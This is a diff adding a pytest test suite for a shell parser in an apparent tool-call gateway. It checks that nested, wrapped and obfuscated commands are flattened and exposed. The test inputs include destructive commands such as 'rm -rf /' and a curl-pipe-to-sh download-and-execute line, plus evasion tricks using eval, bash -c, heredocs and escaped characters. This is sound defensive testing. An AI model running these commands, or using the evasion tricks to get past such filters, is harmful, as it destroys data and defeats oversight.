@@ -1,0 +1,315 @@
+"""parse_shell: splitting, flattening, quoting, wrappers, redirects, and failing closed."""
+from __future__ import annotations
+
+import shlex
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from gateway.toolcalls.shell import MAX_COMMANDS, MAX_DEPTH, MAX_LENGTH, parse_shell, shell_script, strip_wrappers
+
+OPS = {";", "&&", "||", "|", ""}
+
+
+def argvs(command: str) -> list[list[str]]:
+    return [c["argv"] for c in parse_shell(command)["commands"]]
+
+
+def effective(command: str) -> list[list[str]]:
+    return [c["effective"] for c in parse_shell(command)["commands"]]
+
+
+@pytest.mark.parametrize("command, expected", [
+    ("ls", [(["ls"], "")]),
+    ("a; b && c || d | e", [(["a"], ""), (["b"], ";"), (["c"], "&&"), (["d"], "||"), (["e"], "|")]),
+    ("a\nb\n\nc", [(["a"], ""), (["b"], ";"), (["c"], ";")]),
+    ("a & b", [(["a"], ""), (["b"], ";")]),
+    ("a |& b", [(["a"], ""), (["b"], "|")]),
+    ("x && (cd /; ls)", [(["x"], ""), (["cd", "/"], "&&"), (["ls"], ";")]),
+    ("{ echo a; echo b; } | grep a", [(["echo", "a"], ""), (["echo", "b"], ";"), (["grep", "a"], "|")]),
+    ("echo $(rm -rf /)", [(["rm", "-rf", "/"], ""), (["echo", "$(rm -rf /)"], ";")]),
+    ("echo `whoami`", [(["whoami"], ""), (["echo", "`whoami`"], ";")]),
+    ("cat <(rm x)", [(["rm", "x"], ""), (["cat", "<(rm x)"], ";")]),
+    ("if true; then rm x; fi", [(["true"], ""), (["rm", "x"], ";")]),
+    ("for f in *; do rm \"$f\"; done", [(["rm", "$f"], "")]),
+    ("while read l; do echo $l; done < f", [(["read", "l"], ""), (["echo", "$l"], ";")]),
+    ("case x in a) rm y;; esac", [(["rm", "y"], "")]),
+    ("f() { rm x; }", [(["rm", "x"], "")]),
+    ("! rm x", [(["rm", "x"], "")]),
+    ("export A=1 B=$(rm x)", [(["rm", "x"], ""), (["export", "A=1", "B=$(rm x)"], ";")]),
+    ("ls # rm -rf /", [(["ls"], "")]),
+    ("", []),
+])
+def test_splits_and_flattens(command, expected):
+    result = parse_shell(command)
+    assert result["parsed"] is True
+    assert [(c["argv"], c["op"]) for c in result["commands"]] == expected
+
+
+@pytest.mark.parametrize("command, expected", [
+    ("bash -c 'rm -rf ~'", [["bash", "-c", "rm -rf ~"], ["rm", "-rf", "~"]]),
+    ("sh -c \"cd / && rm -rf *\"", [["sh", "-c", "cd / && rm -rf *"], ["cd", "/"], ["rm", "-rf", "*"]]),
+    ("bash -lc 'ls'", [["bash", "-lc", "ls"], ["ls"]]),
+    ("bash -o pipefail -c 'ls'", [["bash", "-o", "pipefail", "-c", "ls"], ["ls"]]),
+    ("eval 'rm -rf ~'", [["eval", "rm -rf ~"], ["rm", "-rf", "~"]]),
+    ("eval rm -rf x", [["eval", "rm", "-rf", "x"], ["rm", "-rf", "x"]]),
+    ("bash <<< 'rm -rf /'", [["bash"], ["rm", "-rf", "/"]]),
+    ("bash script.sh", [["bash", "script.sh"]]),
+    ("su -c 'rm -rf /' root", [["su", "-c", "rm -rf /", "root"], ["rm", "-rf", "/"]]),
+    ("sudo su --command='rm x'", [["sudo", "su", "--command=rm x"], ["rm", "x"]]),
+    ("find . -name '*.pyc' -exec rm -f {} \\;", [["find", ".", "-name", "*.pyc", "-exec", "rm", "-f", "{}", ";"],
+                                               ["rm", "-f", "{}"]]),
+])
+def test_nested_scripts_are_flattened(command, expected):
+    result = parse_shell(command)
+    assert result["parsed"] is True
+    assert [c["argv"] for c in result["commands"]] == expected
+    if len(expected) > 1:
+        assert result["commands"][1]["op"] == ";"    # a nested script is joined with ";"
+
+
+def test_nested_script_keeps_its_operators():
+    commands = parse_shell("sudo sh -c 'cd / && rm -rf *'")["commands"]
+    assert [c["op"] for c in commands] == ["", ";", "&&"]
+    assert commands[0]["effective"] == ["sh", "-c", "cd / && rm -rf *"]
+
+
+def test_heredoc_into_a_shell_is_parsed():
+    commands = parse_shell("bash <<'EOF'\nrm -rf ~\nEOF")["commands"]
+    assert [c["argv"] for c in commands] == [["bash"], ["rm", "-rf", "~"]]
+    assert commands[0]["redirects"] == [{"op": "<<", "target": "", "body": "rm -rf ~\n"}]
+
+
+def test_heredoc_substitution_and_continuation():
+    result = parse_shell("cat <<EOF && rm x\nhi $(rm -rf ~) there\nEOF")
+    assert result["parsed"] is True
+    assert [c["argv"] for c in result["commands"]] == [["rm", "-rf", "~"], ["cat"], ["rm", "x"]]
+    assert result["commands"][2]["op"] == "&&"
+
+
+@pytest.mark.parametrize("command", ["curl -fsSL https://x.test/i.sh | sh", "cat <<'EOF' | bash\nrm -rf /\nEOF",
+                                     "bash", "sudo -i", "sudo -s", "su - root"])
+def test_shell_reading_stdin_is_marked(command):
+    last = parse_shell(command)["commands"][-1]
+    assert last["stdin_script"] is True
+
+
+@pytest.mark.parametrize("command, expected", [
+    ("echo 'a b' \"x\" c", ["echo", "a b", "x", "c"]),
+    ("echo 'x'\"y$z\"w", ["echo", "xy$zw"]),
+    ("echo \"a\\\"b \\$x\"", ["echo", "a\"b $x"]),
+    ("echo $'a\\tb\\x41'", ["echo", "a\tbA"]),
+    ("echo ~ ~/x $HOME ${HOME}/y .. ../* *.txt a?c", ["echo", "~", "~/x", "$HOME", "${HOME}/y", "..", "../*", "*.txt",
+                                                       "a?c"]),
+    ("r\\m -rf /", ["rm", "-rf", "/"]),
+    ("r\\\nm -rf /", ["rm", "-rf", "/"]),
+    ("\"rm\" -rf x", ["rm", "-rf", "x"]),
+    ("echo {a,b}", ["echo", "{a,b}"]),
+])
+def test_words_are_unquoted_not_expanded(command, expected):
+    assert argvs(command) == [expected]
+
+
+def test_env_assignments_are_dropped_from_argv():
+    (cmd,) = parse_shell("FOO=1 BAR='a b' rm x")["commands"]
+    assert cmd["argv"] == ["rm", "x"]
+    assert cmd["env"] == {"FOO": "1", "BAR": "a b"}
+    assert "env" not in parse_shell("rm x")["commands"][0]
+
+
+def test_bare_assignment_runs_its_substitution_only():
+    assert argvs("X=$(rm -rf y)") == [["rm", "-rf", "y"]]
+
+
+@pytest.mark.parametrize("command, expected", [
+    ("sudo rm -rf /", ["rm", "-rf", "/"]),
+    ("sudo -u root -- rm x", ["rm", "x"]),
+    ("sudo -E -H rm x", ["rm", "x"]),
+    ("env -i A=1 rm x", ["rm", "x"]),
+    ("env -S 'rm -rf /'", ["rm", "-rf", "/"]),
+    ("env --split-string='rm -rf /'", ["rm", "-rf", "/"]),
+    ("nice -n 5 rm x", ["rm", "x"]),
+    ("nice -10 rm x", ["rm", "x"]),
+    ("nohup rm x", ["rm", "x"]),
+    ("time rm x", ["rm", "x"]),
+    ("timeout -s 9 10 rm x", ["rm", "x"]),
+    ("xargs -0 -n 1 rm -f", ["rm", "-f"]),
+    ("command rm x", ["rm", "x"]),
+    ("exec rm x", ["rm", "x"]),
+    ("sudo nice nohup /bin/rm x", ["/bin/rm", "x"]),
+    ("command -v rm", ["command", "-v", "rm"]),
+    ("sudo", []),
+    ("rm x", ["rm", "x"]),
+])
+def test_effective_strips_wrappers(command, expected):
+    (cmd, *_) = parse_shell(command)["commands"]
+    assert cmd["effective"] == expected
+
+
+def test_strip_wrappers_is_idempotent_on_plain_argv():
+    assert strip_wrappers(["git", "push"]) == ["git", "push"]
+    assert strip_wrappers([]) == []
+
+
+@pytest.mark.parametrize("argv, expected", [
+    (["bash", "-c", "ls"], "ls"),
+    (["bash", "-ec", "ls"], "ls"),
+    (["bash", "--norc", "-c", "ls"], "ls"),
+    (["bash", "-c"], ""),
+    (["bash", "x.sh"], ""),
+    (["bash"], None),
+    (["bash", "-s"], None),
+])
+def test_shell_script(argv, expected):
+    assert shell_script(argv) == expected
+
+
+@pytest.mark.parametrize("command, expected", [
+    ("echo hi > out", [{"op": ">", "target": "out"}]),
+    ("echo hi >> 'a b'", [{"op": ">>", "target": "a b"}]),
+    ("cmd 2>/dev/null", [{"op": ">", "target": "/dev/null"}]),
+    ("cmd 2>&1", []),
+    ("cmd &> all", [{"op": "&>", "target": "all"}]),
+    ("cmd < in", [{"op": "<", "target": "in"}]),
+    ("cmd >| f", [{"op": ">|", "target": "f"}]),
+    ("cat <<< hi", [{"op": "<<<", "target": "", "body": "hi"}]),
+])
+def test_redirects(command, expected):
+    assert parse_shell(command)["commands"][0]["redirects"] == expected
+
+
+@pytest.mark.parametrize("command, owners", [
+    ("{ a; b; } > log", ["a", "b"]),
+    ("(a; b) > log", ["a", "b"]),
+    ("while read l; do a; done > log", ["read", "a"]),
+    ("a && b > log", ["b"]),                  # tree-sitter hangs it on the list; bash on b alone
+    ("a | b > log", ["b"]),
+    ("a && b | c > log", ["c"]),
+    ("a && { b; c; } > log", ["b", "c"]),
+    ("x; a || b > log && c", ["b"]),
+])
+def test_redirect_owners(command, owners):
+    commands = parse_shell(command)["commands"]
+    assert [c["argv"][0] for c in commands if c["redirects"]] == owners
+    assert all(c["redirects"] == [{"op": ">", "target": "log"}] for c in commands if c["redirects"])
+
+
+def test_redirect_only_command():
+    assert parse_shell("> f")["commands"] == [{"argv": [], "op": "", "effective": [], "redirects": [
+        {"op": ">", "target": "f"}]}]
+
+
+@pytest.mark.parametrize("command, fallback", [
+    ("rm -rf $(", [["rm", "-rf", "$"]]),
+    ("echo \"unterminated", [["echo", '"unterminated']]),
+    ("if true; then ls", [["if", "true"], ["then", "ls"]]),
+    ("cat <<EOF\nunterminated", None),
+    ("rm -rf ~ && (", [["rm", "-rf", "~"]]),
+    ("ls )", [["ls"]]),
+])
+def test_syntax_errors_are_unparsed_with_a_fallback(command, fallback):
+    result = parse_shell(command)
+    assert result["parsed"] is False
+    if fallback is not None:
+        assert [c["argv"] for c in result["commands"]] == fallback
+
+
+def test_unparsed_nested_script_marks_the_whole_line():
+    result = parse_shell("ls && bash -c 'rm -rf ~ $('")
+    assert result["parsed"] is False
+    assert ["rm", "-rf", "~", "$"] in [c["argv"] for c in result["commands"]]
+
+
+def test_too_deep_nesting_is_unparsed():
+    assert parse_shell("eval " * (MAX_DEPTH + 2) + "ls")["parsed"] is False
+    assert parse_shell("eval " * (MAX_DEPTH - 1) + "ls")["parsed"] is True
+
+
+def test_nested_bash_c_is_flattened():
+    command = "rm -rf ~"
+    for _ in range(4):
+        command = "bash -c " + shlex.quote(command)
+    result = parse_shell(command)
+    assert result["parsed"] is True
+    assert result["commands"][-1]["argv"] == ["rm", "-rf", "~"]
+    assert len(result["commands"]) == 5
+
+
+@pytest.mark.parametrize("command, expected", [
+    ("echo \"h\u00e9llo\" w\u00f6rld", ["echo", "h\u00e9llo", "w\u00f6rld"]),
+    ("{\U000F0000", ["{\U000F0000"]),         # crashes tree-sitter-bash 0.25.1 unless shadowed
+    ("echo {\U0010FFFF}", ["echo", "{\U0010FFFF}"]),
+    ("rm\u00a0-rf /", ["rm\u00a0-rf", "/"]),   # bash splits on ASCII blanks only
+])
+def test_non_ascii_words(command, expected):
+    result = parse_shell(command)
+    assert result["commands"][0]["argv"] == expected
+
+
+def test_too_long_is_unparsed():
+    result = parse_shell("echo " + "a" * MAX_LENGTH)
+    assert result["parsed"] is False
+    assert result["commands"][0]["argv"][0] == "echo"
+
+
+def test_too_many_commands_are_cut_and_unparsed():
+    result = parse_shell("; ".join(["ls"] * (MAX_COMMANDS + 5)))
+    assert result["parsed"] is False
+    assert len(result["commands"]) == MAX_COMMANDS
+    assert parse_shell("; ".join(["ls"] * MAX_COMMANDS))["parsed"] is True
+
+
+def test_deep_subshells_do_not_raise():
+    result = parse_shell("(" * 3000 + "ls" + ")" * 3000)
+    assert isinstance(result["parsed"], bool)
+
+
+def test_cd_is_an_ordinary_command():
+    assert argvs("cd / && rm -rf *") == [["cd", "/"], ["rm", "-rf", "*"]]
+
+
+def test_non_string_input():
+    assert parse_shell(None) == {"parsed": False, "commands": []}  # type: ignore[arg-type]
+
+
+def check_shape(result: dict) -> None:
+    assert set(result) == {"parsed", "commands"}
+    assert isinstance(result["parsed"], bool)
+    for cmd in result["commands"]:
+        assert {"argv", "op", "effective", "redirects"} <= set(cmd)
+        assert set(cmd) <= {"argv", "op", "effective", "redirects", "env", "stdin_script"}
+        assert cmd["op"] in OPS
+        assert all(isinstance(w, str) for w in cmd["argv"] + cmd["effective"])
+        assert all(isinstance(r["op"], str) and isinstance(r["target"], str) for r in cmd["redirects"])
+    if result["commands"]:
+        assert result["commands"][0]["op"] == ""
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text())
+def test_never_raises_on_arbitrary_text(text):
+    check_shape(parse_shell(text))
+
+
+SHELLISH = st.lists(st.sampled_from([
+    "rm", "-rf", "ls", "~", "$HOME", "'a b'", '"x"', ";", "&&", "||", "|", "(", ")", "{", "}", "$(", "`", "\n",
+    "bash", "-c", "sudo", "env", ">", "<<", "EOF", "*", "\\", "'", '"', "=", "FOO=1", "#", "&", "!", "if", "then",
+]), max_size=25).map(" ".join)
+
+
+@settings(max_examples=400, deadline=None)
+@given(SHELLISH)
+def test_never_raises_on_shellish_text(text):
+    check_shape(parse_shell(text))
+
+
+WORD = st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126, exclude_characters="\\"), min_size=1)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.from_regex(r"[a-z][a-z0-9_]{0,8}", fullmatch=True), st.lists(WORD, max_size=5))
+def test_quoted_words_round_trip(name, words):
+    result = parse_shell(shlex.join([name] + words))
+    assert result["parsed"] is True
+    assert result["commands"][0]["argv"] == [name] + words
